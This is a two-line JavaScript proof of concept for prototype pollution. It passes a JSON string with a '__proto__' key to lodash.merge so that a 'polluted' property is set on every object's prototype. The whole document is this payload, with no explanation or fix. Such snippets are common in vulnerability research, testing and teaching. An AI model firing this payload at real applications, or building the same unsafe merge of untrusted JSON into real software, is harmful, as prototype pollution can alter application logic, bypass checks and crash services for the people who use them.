import merge from 'lodash.merge';
merge({}, JSON.parse('{"__proto__": {"polluted": true}}'));
